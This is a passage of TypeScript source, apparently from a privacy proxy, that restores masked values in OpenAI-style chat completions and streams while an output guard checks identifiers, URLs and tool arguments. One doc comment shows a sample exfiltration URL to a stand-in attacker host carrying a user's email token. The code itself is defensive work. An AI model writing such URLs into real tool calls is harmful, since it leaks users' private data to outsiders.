// Restoring an OpenAI-style chat completion, whole or streamed (docs/api.md, "OpenAI-compatible
// proxy"). Every string of a message is text the model wrote and is restored (and so guarded)
// with the text restore: content, refusal, an audio transcript, content parts, reasoning,
// annotations, a custom tool's input, a member a newer API adds; identifiers (role, ids, types,
// names) and audio data stay as they are, but the output guard reads the identifiers: a raw value
// there refuses the answer (an identifier cannot be masked), and in a stream an identifier
// arrives whole or not at all. Tool-call and function-call `arguments` are JSON text
// written by the model, so they are restored with jsonStringRestore: each restored value is
// escaped as JSON string content, and a value holding a quote or a backslash cannot break the
// arguments or add members to them. Members outside the message pass unchanged (ids, usage,
// logprobs, finish reasons).
//
// Streams: one StreamRehydrator per text stream (a choice's content, its refusal, its audio
// transcript, each other top-level string member of its deltas such as `reasoning_content`, its
// function call, each of its tool calls), so a token split across chunks anywhere is restored
// exactly once and only a possible partial token (and what the output guard holds) waits.
// Strings nested in another member (annotations) arrive whole and are restored each on its own.
// Text a stream cannot hold back and restore in place (content parts, a custom tool's input) is
// refused as a malformed answer. A choice's held text is flushed
// into the chunk carrying its finish_reason; a tool call's once the next tool call of its choice
// started (its arguments are complete then) and released text (its guard read past where a value
// begun in the call before could still grow: session 18). A tool call that starts below a call
// already started is a malformed answer (a client shows calls in index order). A chunk whose text was all held back, and that
// carries nothing else, is not sent. A stream that ended never takes text again: text for a
// choice after its finish_reason, or for a tool call after the next one started, is a malformed
// answer (restoring it from a fresh state would lose the URL context and the guard's hold of what
// came before, while the client appends it to the ended text). Pure: the restore functions
// (session, policy, channels, output guard) come from the caller.
import { VeilError } from '@veil/common';
import type { UnresolvedToken } from '../rehydrate.js';
import { gluedTail, MarkupContext } from '../restore/index.js';
import type { RestoreFunction, RestoreResult } from '../stream/index.js';
import type { StreamRehydrator } from '../stream/index.js';
import { isPlainObject } from '../structured/index.js';
import type { TokenCandidate } from '../token/index.js';

/** Most choices (`n`) and tool calls per choice a stream may address. */
export const MAX_STREAM_INDEX = 128;

/** The restore of the proxy: `text` for prose fields, `json` for arguments (jsonStringRestore). */
export interface CompletionRestorers {
  readonly text: RestoreFunction;
  readonly json: RestoreFunction;
  /**
   * The output guard runs in `text` and `json`: logprobs are then dropped (null), since they spell
   * out the model's text token by token, a raw value the guard masks included.
   */
  readonly guarded?: boolean;
  /**
   * The output guard over an identifier (a tool or function name, an id, a role; `key` names the
   * member): throws when the answer must be refused (OutputGuard.guardIdentifier).
   */
  readonly identifier?: ((value: string, key: string) => void) | undefined;
  /**
   * A string member named `url` (`url_citation.url`, `image_url.url`): a link or image target by
   * its name, so a token in it, even the whole of it, restores as in a URL (the channel's
   * url_restore_mode, threats.md 9), as in `![x]({{…}})`. `urlTarget()` gives the context. Absent:
   * `text` (callers without a URL restore).
   */
  readonly url?: RestoreFunction | undefined;
}

/** A rendering context already inside a link target: what a URL member's text is restored in. */
export function urlTarget(): MarkupContext {
  const context = new MarkupContext();
  context.feed('[](');
  return context;
}

/** Member names that hold a link or resource target by themselves. */
const URL_NAMES = new Set(['url', 'uri', 'href', 'src', 'link']);
/** `image_url`, `website-uri`, `source_href`, `next_link`: a target named by its last part. */
const URL_SUFFIX = /[_-](?:url|uri|href|link)$/;
/** `imageUrl`, `sourceURI`, `canonicalHref`: the same in camel case. */
const URL_CAMEL = /[a-z0-9](?:Url|URL|Uri|URI|Href|Link)$/;

/**
 * A member whose string is a URL by its name (CompletionRestorers.url): `url` (OpenAI's
 * `url_citation.url`, `image_url.url`) and the names other APIs and tools use for a link or
 * resource target. A text member misread as one only restores its tokens as labels (the channel's
 * url_restore_mode): the error is on the side that reveals less.
 */
export function isUrlMember(key: string): boolean {
  return URL_NAMES.has(key.toLowerCase()) || URL_SUFFIX.test(key.toLowerCase()) || URL_CAMEL.test(key);
}

export interface RestoreTotals {
  readonly tokensResolved: number;
  readonly tokensUnresolved: readonly UnresolvedToken[];
}

function malformed(what: string): VeilError {
  return new VeilError('VEIL_UPSTREAM_FAILED', `the upstream answer is malformed: ${what}`);
}

/**
 * A restore that renders into a MarkupContext (services/rehydrate.ts Restorer): pieces of one
 * rendered whole pass the same context, in order, so a URL or tag opened in an earlier piece
 * still clamps the tokens of later ones.
 */
export type MarkupRestore = (text: string, markup?: MarkupContext) => RestoreResult;

/**
 * A restore for text inside a JSON string literal: every resolved token becomes its value
 * escaped as JSON string content; unresolved candidates stay as they are. Tokens restore
 * independently of each other (one left-to-right pass), so restoring them one by one gives the
 * text restore's values. The text around the tokens is fed to `markup` too, so a token inside a
 * URL in the arguments (`{"url": "https://evil.example/?d={{email:...}}"}`) gets the channel's
 * url_restore_mode, as in any other output. `markup`: the context of the whole the calls are
 * pieces of (a tool call's streamed arguments); without one each call is its own whole.
 */
export function jsonStringRestore(restore: MarkupRestore, scan: (text: string) => readonly TokenCandidate[], markup?: MarkupContext): RestoreFunction {
  return (text) => {
    const context = markup ?? new MarkupContext();
    const candidates = scan(text);
    if (candidates.length === 0) {
      context.feed(text);
      return { restoredText: text, tokensResolved: 0, tokensUnresolved: [] };
    }
    const parts: string[] = [];
    const unresolved: UnresolvedToken[] = [];
    let resolved = 0;
    let cursor = 0;
    for (const candidate of candidates) {
      const before = text.slice(cursor, candidate.start);
      parts.push(before);
      context.feed(before);
      cursor = candidate.end;
      // The token is restored apart from the text after it: say what that text makes of it.
      if (gluedTail(text, candidate.end, true).verdict !== 'plain') context.glueRight();
      const one = restore(candidate.raw, context);
      resolved += one.tokensResolved;
      unresolved.push(...one.tokensUnresolved);
      parts.push(one.tokensResolved > 0 ? JSON.stringify(one.restoredText).slice(1, -1) : one.restoredText);
    }
    const rest = text.slice(cursor);
    parts.push(rest);
    context.feed(rest);
    return { restoredText: parts.join(''), tokensResolved: resolved, tokensUnresolved: unresolved };
  };
}

class Totals {
  resolved = 0;
  readonly unresolved: UnresolvedToken[] = [];

  add(result: RestoreResult): string {
    this.resolved += result.tokensResolved;
    this.unresolved.push(...result.tokensUnresolved);
    return result.restoredText;
  }
}

/** A copy of `object` with `key` set (own data property, whatever the key). */
function withMember(object: Readonly<Record<string, unknown>>, key: string, value: unknown): Record<string, unknown> {
  const out: Record<string, unknown> = { ...object };
  Object.defineProperty(out, key, { value, enumerable: true, writable: true, configurable: true });
  return out;
}

/**
 * Members whose strings are identifiers or binary data, never text the model wrote for a reader:
 * a role, ids, types, function and tool names, audio data (base64) and its expiry.
 */
const NOT_TEXT: ReadonlySet<string> = new Set(['role', 'id', 'type', 'name', 'index', 'data', 'expires_at', 'tool_call_id']);

/**
 * Identifier members the output guard still reads (red team, session 11: a model may write a card
 * or an address as a tool name, an upstream as an id): every NOT_TEXT member but binary data.
 */
const GUARDED_IDENTIFIER = (key: string): boolean => NOT_TEXT.has(key) && key !== 'data' && key !== 'expires_at' && key !== 'index';

/**
 * Run `check` over every guarded identifier string of `value` (bounded like the restore); with
 * `every`, over every string (the envelope around the messages: the answer's id, model, system
 * fingerprint, a finish reason).
 */
function checkIdentifiers(value: unknown, key: string, check: (value: string, key: string) => void, depth = 0, every = false): void {
  if (typeof value === 'string') {
    if (every || GUARDED_IDENTIFIER(key)) check(value, key);
    return;
  }
  if (depth > MAX_ANSWER_DEPTH) throw malformed('a message is nested too deep');
  if (Array.isArray(value)) {
    for (const item of value) checkIdentifiers(item, key, check, depth + 1);
  } else if (isPlainObject(value)) {
    for (const member of Object.keys(value)) checkIdentifiers(value[member], member, check, depth + 1, every);
  }
}

/** The envelope of an answer or a chunk: every string outside its messages, deltas and logprobs. */
function checkEnvelope(answer: Readonly<Record<string, unknown>>, check: (value: string, key: string) => void): void {
  for (const key of Object.keys(answer)) {
    if (key !== 'choices') checkIdentifiers(answer[key], key, check, 1, true);
  }
  for (const choice of Array.isArray(answer.choices) ? (answer.choices as unknown[]) : []) {
    if (!isPlainObject(choice)) continue;
    for (const key of Object.keys(choice)) {
      if (key !== 'message' && key !== 'delta' && key !== 'logprobs') checkIdentifiers(choice[key], key, check, 1, true);
    }
  }
}

/** Nesting read in an answer's message or delta; deeper is a malformed answer (no deep recursion). */
const MAX_ANSWER_DEPTH = 64;

/**
 * Arguments members: JSON text written by the model (function_call.arguments,
 * tool_calls[].function.arguments), restored with the `json` restore.
 */
function isArguments(key: string, parent: string | undefined): boolean {
  return key === 'arguments' && (parent === 'function' || parent === 'function_call');
}

/** Restore a whole (not streamed) chat completion. Throws VEIL_UPSTREAM_FAILED when it is not one. */
export function restoreCompletion(completion: unknown, restorers: CompletionRestorers): RestoreTotals & { readonly value: Record<string, unknown> } {
  if (!isPlainObject(completion) || !Array.isArray(completion.choices)) throw malformed('no choices');
  if (restorers.identifier !== undefined) checkEnvelope(completion, restorers.identifier);
  const totals = new Totals();
  const text = (value: string): string => totals.add(restorers.text(value));
  const json = (value: string): string => totals.add(restorers.json(value));
  const url = (value: string): string => totals.add((restorers.url ?? restorers.text)(value));
  // Every string of a message is text the model wrote, wherever the upstream put it (content,
  // refusal, an audio transcript, content parts, `reasoning_content`, annotations, a custom
  // tool's input, a field a newer API adds): restored and guarded as text, arguments as JSON,
  // identifiers left alone. A field passed through unread would carry a raw value past the
  // output guard.
  const walk = (value: unknown, key: string, parent: string | undefined, depth: number): unknown => {
    if (typeof value === 'string') {
      if (isArguments(key, parent)) return json(value);
      if (isUrlMember(key)) return url(value);
      return NOT_TEXT.has(key) ? value : text(value);
    }
    if (depth > MAX_ANSWER_DEPTH && (Array.isArray(value) || isPlainObject(value))) throw malformed('a message is nested too deep');
    if (Array.isArray(value)) return value.map((item) => walk(item, key, parent, depth + 1));
    if (!isPlainObject(value)) return value;
    let out: Record<string, unknown> = {};
    for (const member of Object.keys(value)) out = withMember(out, member, walk(value[member], member, key, depth + 1));
    return out;
  };
  const choices = (completion.choices as unknown[]).map((choice) => {
    if (!isPlainObject(choice)) throw malformed('a choice is not an object');
    const message = choice.message;
    if (message === undefined || message === null) return choice;
    if (!isPlainObject(message)) throw malformed('a message is not an object');
    if (restorers.identifier !== undefined) checkIdentifiers(message, 'message', restorers.identifier);
    return { ...choice, message: walk(message, 'message', undefined, 0), ...(restorers.guarded === true && choice.logprobs !== undefined ? { logprobs: null } : {}) };
  });
  return { value: { ...completion, choices }, tokensResolved: totals.resolved, tokensUnresolved: totals.unresolved };
}

/**
 * Every text of a whole answer's messages (arguments included), for the session check run before
 * it is restored; bounded like the restore (a message nested too deep is malformed).
 */
export function completionText(completion: unknown): string {
  return completionMembers(completion).join('\u0000');
}

/**
 * Every text member of a whole answer's messages (arguments and URL members included), choice
 * by choice in document order: what the output guard reads as one answer (acrossMembers).
 */
export function completionMembers(completion: unknown): string[] {
  const parts: string[] = [];
  const choices = isPlainObject(completion) && Array.isArray(completion.choices) ? (completion.choices as unknown[]) : [];
  for (const choice of choices) if (isPlainObject(choice)) textLeaves(choice.message, 'message', parts);
  return parts;
}

/** Parse one `data:` payload of an upstream stream (other than `[DONE]`) into a chunk object. */
export function parseChunk(data: string): Record<string, unknown> {
  let value: unknown;
  try {
    value = JSON.parse(data);
  } catch {
    throw malformed('a stream event is not JSON');
  }
  if (!isPlainObject(value)) throw malformed('a stream event is not an object');
  return value;
}

/** The open text streams of one choice. */
interface ChoiceStreams {
  content?: StreamRehydrator;
  refusal?: StreamRehydrator;
  functionCall?: StreamRehydrator;
  readonly tools: Map<number, StreamRehydrator>;
  /** Tool calls whose arguments ended (a later call started): they never take text again. */
  readonly ended: Set<number>;
  /**
   * Ended tool calls not released yet: each keeps what its guard holds until the call that
   * follows it (`follower`) released text or ended, so a value it began and the next call
   * completes is masked in both (the finding is fed back first).
   */
  readonly closing: Map<number, { readonly rehydrator: StreamRehydrator; readonly follower: StreamRehydrator }>;
  transcript?: StreamRehydrator;
  /** Other text streams of the choice: top-level strings of the delta (`reasoning_content`, `reasoning`, a field a newer API adds). */
  readonly fields: Map<string, StreamRehydrator>;
  /** Identifiers seen (`role`, `tool/2/id`, `tool/2/name`, `function_call/name`): each arrives whole, once. */
  readonly identifiers: Map<string, string>;
  /** The text stream of the choice opened or written last: the one a new or resuming stream follows (its guard is seeded with that one's tail). */
  last?: StreamRehydrator;
  /** The choice's first tool call (the lowest index: calls start in index order) or function call: what a client shows right after the content. */
  firstCall?: StreamRehydrator;
}

/** Delta members read as their own streams (content, refusal, arguments) or as identifiers. */
const STREAMED_MEMBERS: ReadonlySet<string> = new Set(['content', 'refusal', 'function_call', 'tool_calls', 'audio']);

/** The text strings of `value` (NOT_TEXT members aside), into `sink`. */
function textLeaves(value: unknown, key: string, sink: string[], depth = 0): void {
  if (typeof value === 'string') {
    if (!NOT_TEXT.has(key)) sink.push(value);
    return;
  }
  if (depth > MAX_ANSWER_DEPTH) throw malformed('a stream delta is nested too deep');
  if (Array.isArray(value)) {
    for (const item of value) textLeaves(item, key, sink, depth + 1);
  } else if (isPlainObject(value)) {
    for (const member of Object.keys(value)) textLeaves(value[member], member, sink, depth + 1);
  }
}

/** Does `value` hold text (a non-empty string outside NOT_TEXT members)? */
function holdsText(value: unknown, key: string): boolean {
  const sink: string[] = [];
  textLeaves(value, key, sink);
  return sink.some((text) => text !== '');
}

/** Text a stream cannot hold back and restore in place: refused (fail closed). */
function unstreamable(): VeilError {
  return malformed('a stream delta carries text in a member that cannot be restored in a stream');
}

/** A non-empty string: text a stream would have to restore. */
function hasText(value: unknown): boolean {
  return typeof value === 'string' && value !== '';
}


function streamIndex(value: unknown, what: string): number {
  if (typeof value !== 'number' || !Number.isSafeInteger(value) || value < 0 || value >= MAX_STREAM_INDEX) throw malformed(`${what} is not a small non-negative integer`);
  return value;
}

/** Does a rewritten delta still say anything (text left after hold-back, a role, a tool call)? */
function meaningful(delta: Readonly<Record<string, unknown>>): boolean {
  for (const key of Object.keys(delta)) {
    const value = delta[key];
    if (value === '') continue;
    if (key === 'tool_calls' && Array.isArray(value) && value.length === 0) continue;
    if (value === undefined || value === null) continue;
    return true;
  }
  return false;
}

/** Restores a chat completion stream chunk by chunk (see the header). */
export class ChunkRestorer {
  readonly #open: (kind: 'text' | 'json', previous?: StreamRehydrator, next?: () => StreamRehydrator | undefined) => StreamRehydrator;
  readonly #choices = new Map<number, ChoiceStreams>();
  readonly #all: StreamRehydrator[] = [];
  /** Every stream, the one written last at the end (#push): the order streams end in, reversed (#flush). */
  readonly #recent: StreamRehydrator[] = [];
  /** Tells a stream's guard it resumes after another stream's text (StreamOutputGuard.follow). */
  readonly #follow: ((rehydrator: StreamRehydrator, before: StreamRehydrator) => void) | undefined;
  /** Tells a call's arguments stream its name, shown right before them (StreamOutputGuard.lead). */
  readonly #named: ((rehydrator: StreamRehydrator, name: string) => void) | undefined;
  /** Choices that started and have not finished yet. */
  readonly #unfinished = new Set<number>();
  /** Choices that finished: their streams ended and never take text again. */
  readonly #finished = new Set<number>();
  #template: Record<string, unknown> | undefined;

  readonly #guarded: boolean;
  readonly #identifier: ((value: string, key: string) => void) | undefined;
  /** The rehydrator of one URL member (CompletionRestorers.url); absent: a text one. */
  readonly #openUrl: (() => StreamRehydrator) | undefined;

  /**
   * `open` makes the rehydrator of one text stream: `text` restore or `json` (arguments).
   * `guarded`: the rehydrators run the output guard, so logprobs (the model's text token by
   * token, a masked value included) are dropped. `identifier`: the output guard over an
   * identifier (CompletionRestorers.identifier).
   */
  constructor(
    open: (kind: 'text' | 'json', previous?: StreamRehydrator, next?: () => StreamRehydrator | undefined) => StreamRehydrator,
    options: {
      readonly guarded?: boolean;
      readonly identifier?: ((value: string, key: string) => void) | undefined;
      readonly openUrl?: (() => StreamRehydrator) | undefined;
      readonly follow?: ((rehydrator: StreamRehydrator, before: StreamRehydrator) => void) | undefined;
      readonly named?: ((rehydrator: StreamRehydrator, name: string) => void) | undefined;
    } = {},
  ) {
    this.#open = open;
    this.#follow = options.follow;
    this.#named = options.named;
    this.#openUrl = options.openUrl;
    this.#guarded = options.guarded === true;
    this.#identifier = options.identifier;
  }

  /**
   * Identifiers are checked whole, so none may arrive in pieces: a later chunk may repeat one
   * (some upstreams resend a tool call's id and name) but not change it, else a value could be
   * spread over chunks that each pass the guard (and clients that join the pieces would show it).
   */
  #identifiers(streams: ChoiceStreams, delta: Readonly<Record<string, unknown>>): void {
    const seen = (slot: string, value: unknown, key: string): void => {
      if (typeof value !== 'string' || value === '') return;
      const before = streams.identifiers.get(slot);
      if (before !== undefined && before !== value) throw malformed(`an identifier (${key}) arrived in pieces`);
      streams.identifiers.set(slot, value);
    };
    seen('role', delta.role, 'role');
    if (isPlainObject(delta.function_call)) seen('function_call/name', delta.function_call.name, 'name');
    for (const call of Array.isArray(delta.tool_calls) ? (delta.tool_calls as unknown[]) : []) {
      if (!isPlainObject(call)) continue;
      seen(`tool/${String(call.index)}/id`, call.id, 'id');
      if (isPlainObject(call.function)) seen(`tool/${String(call.index)}/name`, call.function.name, 'name');
    }
    if (this.#identifier !== undefined) checkIdentifiers(delta, 'delta', this.#identifier);
  }

  /** True when every choice that started has finished (a finish_reason was seen). */
  get complete(): boolean {
    return this.#unfinished.size === 0;
  }

  get tokensResolved(): number {
    return this.#all.reduce((sum, rehydrator) => sum + rehydrator.tokensResolved, 0);
  }

  get tokensUnresolved(): UnresolvedToken[] {
    return this.#all.flatMap((rehydrator) => [...rehydrator.tokensUnresolved]);
  }

  /**
   * Every text the next rewrite of `chunk` may restore from (held-back text plus the chunk's
   * deltas), for the per-delta session checks (revocations, deny list): every token the rewrite
   * restores is whole in it, also one split between chunks.
   */
  pendingWith(chunk: Readonly<Record<string, unknown>>): string {
    // Each stream's held-back text joined with its own new text: a token split between the
    // chunks is whole here (checked before it is restored). Pieces of different streams stay
    // apart, so no token forms across two of them.
    const parts: string[] = [];
    const joined = new Set<StreamRehydrator>();
    const add = (rehydrator: StreamRehydrator | undefined, text: unknown): void => {
      if (typeof text !== 'string') return;
      if (rehydrator !== undefined) joined.add(rehydrator);
      parts.push(`${rehydrator?.pending ?? ''}${text}`);
    };
    const choices = Array.isArray(chunk.choices) ? (chunk.choices as unknown[]) : [];
    for (const choice of choices) {
      if (!isPlainObject(choice) || !isPlainObject(choice.delta)) continue;
      const delta = choice.delta;
      const streams = typeof choice.index === 'number' ? this.#choices.get(choice.index) : undefined;
      add(streams?.content, delta.content);
      add(streams?.refusal, delta.refusal);
      if (isPlainObject(delta.function_call)) add(streams?.functionCall, delta.function_call.arguments);
      if (isPlainObject(delta.audio)) add(streams?.transcript, delta.audio.transcript);
      for (const key of Object.keys(delta)) if (!STREAMED_MEMBERS.has(key) && !NOT_TEXT.has(key)) add(streams?.fields.get(key), delta[key]);
      for (const call of Array.isArray(delta.tool_calls) ? (delta.tool_calls as unknown[]) : []) {
        if (isPlainObject(call) && isPlainObject(call.function)) add(typeof call.index === 'number' ? streams?.tools.get(call.index) : undefined, call.function.arguments);
      }
      // Anything else the delta holds (refused later, but checked all the same).
      textLeaves(delta, 'delta', parts);
    }
    for (const rehydrator of this.#all) if (!joined.has(rehydrator)) parts.push(rehydrator.pending);
    return parts.join('\u0000');
  }

  /** The chunk with its text restored, or undefined when nothing of it is left to send. */
  rewrite(chunk: Readonly<Record<string, unknown>>): Record<string, unknown> | undefined {
    if (!Array.isArray(chunk.choices)) throw malformed('a stream chunk has no choices');
    this.#template = chunk;
    if (this.#identifier !== undefined) checkEnvelope(chunk, this.#identifier);
    let keep = chunk.choices.length === 0 || (chunk.usage !== undefined && chunk.usage !== null);
    const choices = (chunk.choices as unknown[]).map((choice) => {
      if (!isPlainObject(choice)) throw malformed('a choice is not an object');
      const index = streamIndex(choice.index, 'a choice index');
      const delta = choice.delta === undefined || choice.delta === null ? {} : choice.delta;
      if (!isPlainObject(delta)) throw malformed('a delta is not an object');
      const finished = choice.finish_reason !== undefined && choice.finish_reason !== null;
      if (this.#finished.has(index)) {
        if (holdsText(delta, 'delta')) throw malformed('a choice continued after its finish_reason');
        if (this.#identifier !== undefined) checkIdentifiers(delta, 'delta', this.#identifier);
        return { ...choice, delta };
      }
      const rewritten = this.#rewriteDelta(index, delta, finished);
      const logprobs: unknown = this.#guarded ? null : choice.logprobs;
      if (finished || (logprobs !== undefined && logprobs !== null) || meaningful(rewritten)) keep = true;
      return this.#guarded && choice.logprobs !== undefined ? { ...choice, delta: rewritten, logprobs } : { ...choice, delta: rewritten };
    });
    return keep ? { ...chunk, choices } : undefined;
  }

  /**
   * The stream ended (`[DONE]`): a chunk with whatever is still held for choices that never
   * finished, or undefined when nothing is.
   */
  finish(): Record<string, unknown> | undefined {
    const choices: Record<string, unknown>[] = [];
    for (const index of [...this.#choices.keys()].sort((a, b) => a - b)) {
      const delta = this.#flush(index, {});
      if (meaningful(delta)) choices.push({ index, delta, finish_reason: null });
    }
    if (choices.length === 0 || this.#template === undefined) return undefined;
    const { usage: _usage, choices: _choices, ...template } = this.#template;
    return { ...template, choices };
  }

  #streams(index: number): ChoiceStreams {
    let streams = this.#choices.get(index);
    if (streams === undefined) {
      streams = { tools: new Map(), ended: new Set(), closing: new Map(), fields: new Map(), identifiers: new Map() };
      this.#choices.set(index, streams);
      this.#unfinished.add(index);
    }
    return streams;
  }

  /**
   * A new text stream; of a choice (`streams`): it follows the stream of the choice opened last
   * (`open`'s `previous`: a value the model began there and completes here is masked here).
   */
  #rehydrator(kind: 'text' | 'json', streams?: ChoiceStreams, follows = true, next?: () => StreamRehydrator | undefined): StreamRehydrator {
    const rehydrator = this.#open(kind, streams?.last, next);
    // A string restored whole (an annotation's) reads after the member before it, but the next
    // stream of the choice still follows that member (`follows` false).
    if (streams !== undefined && follows) streams.last = rehydrator;
    this.#all.push(rehydrator);
    this.#recent.push(rehydrator);
    return rehydrator;
  }

  /**
   * A member whose strings each arrive whole in one chunk (annotations: a citation's title and
   * URL): every string restored and guarded on its own, nothing held back.
   */
  #wholeStrings(value: unknown, key: string, depth: number, streams?: ChoiceStreams): unknown {
    if (typeof value === 'string') {
      if (NOT_TEXT.has(key) || value === '') return value;
      // A client shows an annotation with the content it annotates: each string reads after the
      // choice's last text stream (a value the content began and the string completes is masked
      // in both, StreamOutputGuard.feedBack).
      const rehydrator = isUrlMember(key) && this.#openUrl !== undefined ? this.#openUrl() : this.#rehydrator('text', streams, false);
      return rehydrator.push(value) + rehydrator.end();
    }
    if (depth > MAX_ANSWER_DEPTH) throw malformed('a stream delta is nested too deep');
    if (Array.isArray(value)) return value.map((item) => this.#wholeStrings(item, key, depth + 1, streams));
    if (!isPlainObject(value)) return value;
    let out: Record<string, unknown> = {};
    for (const member of Object.keys(value)) out = withMember(out, member, this.#wholeStrings(value[member], member, depth + 1, streams));
    return out;
  }

  /**
   * Push `text` to one of a choice's streams. Text that resumes a stream after another stream
   * of the choice wrote (the fields interleave: reasoning, the content, a refusal) follows that
   * one (`follow`: read after its tail, as written in that order); the stream written last ends
   * first at the choice's end (#flush).
   */
  #push(streams: ChoiceStreams, rehydrator: StreamRehydrator, text: string): string {
    if (text !== '') {
      if (streams.last !== undefined && streams.last !== rehydrator) this.#follow?.(rehydrator, streams.last);
      streams.last = rehydrator;
      const at = this.#recent.indexOf(rehydrator);
      if (at >= 0 && at !== this.#recent.length - 1) {
        this.#recent.splice(at, 1);
        this.#recent.push(rehydrator);
      }
    }
    return rehydrator.push(text);
  }

  #field(streams: ChoiceStreams, key: string): StreamRehydrator {
    let rehydrator = streams.fields.get(key);
    if (rehydrator === undefined) {
      rehydrator = this.#rehydrator('text', streams);
      streams.fields.set(key, rehydrator);
    }
    return rehydrator;
  }

  #rewriteDelta(index: number, delta: Readonly<Record<string, unknown>>, finished: boolean): Record<string, unknown> {
    const streams = this.#streams(index);
    this.#identifiers(streams, delta);
    let out: Record<string, unknown> = { ...delta };
    // The content is shown before the choice's tool calls: a value it begins and the first call
    // (already released, an upstream resuming the content after it) completes is masked in it.
    if (typeof delta.content === 'string') out.content = this.#push(streams, (streams.content ??= this.#rehydrator('text', streams, true, () => streams.firstCall)), delta.content);
    if (typeof delta.refusal === 'string') out.refusal = this.#push(streams, (streams.refusal ??= this.#rehydrator('text', streams)), delta.refusal);
    // Content parts and text besides a function's arguments are text streams split across
    // chunks that cannot be held back and restored in place: refused rather than passed by the
    // output guard. Other members with nested text (annotations) restore each string whole.
    if (typeof delta.content !== 'string' && holdsText(delta.content, 'content')) throw unstreamable();
    if (isPlainObject(delta.function_call) && holdsText({ ...delta.function_call, arguments: '' }, 'function_call')) throw unstreamable();
    for (const key of Object.keys(delta)) {
      if (STREAMED_MEMBERS.has(key) || NOT_TEXT.has(key)) continue;
      const value = delta[key];
      if (typeof value === 'string') out = withMember(out, key, this.#push(streams, this.#field(streams, key), value));
      else if (holdsText(value, key)) out = withMember(out, key, this.#wholeStrings(value, key, 0, streams));
    }
    if (delta.audio !== undefined && delta.audio !== null) {
      if (!isPlainObject(delta.audio) || holdsText({ ...delta.audio, transcript: '' }, 'audio')) throw unstreamable();
      if (typeof delta.audio.transcript === 'string') out.audio = { ...delta.audio, transcript: this.#push(streams, (streams.transcript ??= this.#rehydrator('text', streams)), delta.audio.transcript) };
    }
    if (isPlainObject(delta.function_call) && typeof delta.function_call.arguments === 'string') {
      if (streams.functionCall === undefined) {
        streams.functionCall = this.#rehydrator('json', streams);
        if (hasText(delta.function_call.name)) this.#named?.(streams.functionCall, delta.function_call.name as string);
      }
      streams.firstCall ??= streams.functionCall;
      out.function_call = { ...delta.function_call, arguments: this.#push(streams, streams.functionCall, delta.function_call.arguments) };
    }
    if (Array.isArray(delta.tool_calls)) {
      const calls: unknown[] = [];
      for (const call of delta.tool_calls as unknown[]) {
        if (!isPlainObject(call)) throw malformed('a tool call is not an object');
        const callIndex = streamIndex(call.index, 'a tool call index');
        // Only a function's arguments are text a tool call streams (a custom tool's input is not
        // held back and restored in a stream).
        if (holdsText({ ...call, function: isPlainObject(call.function) ? { ...call.function, arguments: '' } : call.function }, 'tool_call')) throw unstreamable();
        if (streams.ended.has(callIndex)) {
          if (isPlainObject(call.function) && hasText(call.function.arguments)) throw malformed('a tool call continued after the next one started');
          calls.push(call);
          continue;
        }
        if (!streams.tools.has(callIndex)) {
          // A client shows a choice's tool calls in index order: a call below one already
          // started would come before text already sent (a value it began could not be masked
          // where the client shows it). Upstreams number calls as they start; refused otherwise.
          if ([...streams.tools.keys(), ...streams.ended].some((started) => started > callIndex)) throw malformed('a tool call started after one with a higher index');
          // A new tool call: the earlier ones of this choice are complete. Each releases what it
          // holds once the new call read past it (#closeCalls).
          const follower = this.#rehydrator('json', streams);
          if (isPlainObject(call.function) && hasText(call.function.name)) this.#named?.(follower, call.function.name as string);
          streams.firstCall ??= follower;
          for (const [earlier, rehydrator] of [...streams.tools].sort((a, b) => a[0] - b[0])) {
            if (earlier >= callIndex) continue;
            streams.tools.delete(earlier);
            streams.ended.add(earlier);
            streams.closing.set(earlier, { rehydrator, follower });
          }
          streams.tools.set(callIndex, follower);
        }
        const fn = call.function;
        if (isPlainObject(fn) && typeof fn.arguments === 'string') {
          calls.push({ ...call, function: { ...fn, arguments: this.#push(streams, streams.tools.get(callIndex)!, fn.arguments) } });
        } else calls.push(call);
      }
      if (!finished) this.#closeCalls(streams, calls);
      out = withMember(out, 'tool_calls', calls);
    }
    return finished ? this.#flush(index, out) : out;
  }

  /**
   * Release the ended tool calls whose follower released text (its guard read past where a value
   * begun in them could still grow) or ended; the latest first, so a finding fed back reaches a
   * call before it lets go. Each rest joins the call's entry in `calls` (or a new one before the
   * delta's calls: in index order).
   */
  #closeCalls(streams: ChoiceStreams, calls: unknown[]): void {
    const closed = new Set<StreamRehydrator>();
    for (const [index, { rehydrator, follower }] of [...streams.closing].sort((a, b) => b[0] - a[0])) {
      const followerDone = follower.consumed > 0 || closed.has(follower) || (![...streams.tools.values()].includes(follower) && ![...streams.closing.values()].some((entry) => entry.rehydrator === follower));
      if (!followerDone) continue;
      streams.closing.delete(index);
      closed.add(rehydrator);
      const rest = rehydrator.end();
      if (rest === '') continue;
      const entry = calls.findIndex((call) => isPlainObject(call) && call.index === index);
      const current = entry < 0 ? undefined : (calls[entry] as Record<string, unknown>);
      if (current !== undefined && isPlainObject(current.function) && typeof current.function.arguments === 'string') {
        calls[entry] = { ...current, function: { ...current.function, arguments: current.function.arguments + rest } };
      } else calls.unshift({ index, function: { arguments: rest } });
    }
  }

  /** Release everything a choice holds into `delta`; the choice is finished. */
  #flush(index: number, delta: Record<string, unknown>): Record<string, unknown> {
    const streams = this.#choices.get(index);
    if (streams === undefined) return delta;
    let out = delta;
    // The choice's streams end in the reverse of the order they were last written: a value a
    // later member completes is fed back to the member before it (StreamOutputGuard.feedBack)
    // before that one releases what it still holds. Each rest is then placed as before.
    const mine = new Set<StreamRehydrator>([...streams.fields.values(), ...streams.tools.values(), ...[...streams.closing.values()].map((entry) => entry.rehydrator)]);
    for (const rehydrator of [streams.content, streams.refusal, streams.transcript, streams.functionCall]) if (rehydrator !== undefined) mine.add(rehydrator);
    const rests = new Map<StreamRehydrator, string>();
    for (let at = this.#recent.length - 1; at >= 0; at--) {
      const rehydrator = this.#recent[at]!;
      if (mine.has(rehydrator)) rests.set(rehydrator, rehydrator.end());
    }
    const end = (rehydrator: StreamRehydrator | undefined): string => (rehydrator === undefined ? '' : (rests.get(rehydrator) ?? rehydrator.end()));
    const append = (key: 'content' | 'refusal', rehydrator: StreamRehydrator | undefined): void => {
      const rest = end(rehydrator);
      if (rest !== '') out[key] = `${typeof out[key] === 'string' ? out[key] : ''}${rest}`;
    };
    append('content', streams.content);
    append('refusal', streams.refusal);
    const transcript = end(streams.transcript);
    if (transcript !== '') {
      const audio = isPlainObject(out.audio) ? out.audio : {};
      out.audio = { ...audio, transcript: `${typeof audio.transcript === 'string' ? audio.transcript : ''}${transcript}` };
    }
    for (const [key, rehydrator] of streams.fields) {
      const rest = end(rehydrator);
